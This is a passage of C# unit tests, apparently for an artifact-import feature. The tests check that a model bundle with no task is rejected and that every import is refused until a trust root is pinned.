        context.Repo.AddArtifact("model", "mystery", "1", files, task: null);
        context.Repo.Publish();
        await Rejected(context, context.Repo.Bundle("model", "mystery", "1"), ImportRejection.ModelTask);
    }

    [Fact]
    public async Task Import_RejectsEverythingBeforeARootIsPinned()
    {
        await using var context = await ImportTestContext.CreateAsync(pin: false);
        await Rejected(context, context.DemoBundle(), ImportRejection.NotPinned);
    }
}
